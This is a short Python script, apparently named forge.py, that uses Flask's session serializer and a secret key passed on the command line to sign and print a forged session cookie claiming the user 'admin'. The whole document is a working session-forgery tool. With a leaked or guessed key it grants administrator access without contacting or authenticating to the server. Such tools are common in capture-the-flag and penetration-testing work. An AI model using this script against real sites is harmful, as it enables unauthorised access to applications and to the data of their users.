# Signs a session cookie as Flask does: python forge.py KEY
# It asks no server. All it needs is the key.
import sys

from flask import Flask

app = Flask(__name__)
app.secret_key = sys.argv[1]
signer = app.session_interface.get_signing_serializer(app)
print("session=" + signer.dumps({"user": "admin"}))
